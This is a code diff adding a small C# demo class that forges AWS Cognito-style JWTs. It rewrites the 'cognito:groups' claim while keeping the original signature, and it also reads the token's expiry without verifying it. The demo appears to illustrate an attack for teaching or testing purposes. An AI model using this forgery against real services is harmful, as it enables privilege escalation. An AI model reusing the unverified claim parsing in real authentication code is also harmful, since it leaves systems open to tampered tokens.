@@ -1,0 +1,30 @@
+using System;
+using System.Buffers.Text;
+using System.Text;
+using System.Text.Json.Nodes;
+
+namespace DevTool.Demo;
+
+/// <summary>What an attacker would try, and what a look into a token tells.</summary>
+internal static class TokenForgery
+{
+    /// <summary>Rewrites the groups of a token and leaves its signature as it was.</summary>
+    /// <param name="token">The token.</param>
+    /// <param name="group">The group to claim.</param>
+    /// <returns>The forged token.</returns>
+    public static string ClaimGroup(string token, string group)
+    {
+        string[] parts = token.Split('.');
+        JsonObject claims = Claims(token);
+        claims["cognito:groups"] = new JsonArray(group);
+        string payload = Base64Url.EncodeToString(Encoding.UTF8.GetBytes(claims.ToJsonString()));
+        return $"{parts[0]}.{payload}.{parts[2]}";
+    }
+
+    /// <summary>When a token expires, by its own word.</summary>
+    /// <param name="token">The token.</param>
+    /// <returns>The time.</returns>
+    public static DateTimeOffset Expiry(string token) => DateTimeOffset.FromUnixTimeSeconds(Claims(token)["exp"]!.GetValue<long>());
+
+    private static JsonObject Claims(string token) => JsonNode.Parse(Base64Url.DecodeFromChars(token.Split('.')[1]))!.AsObject();
+}
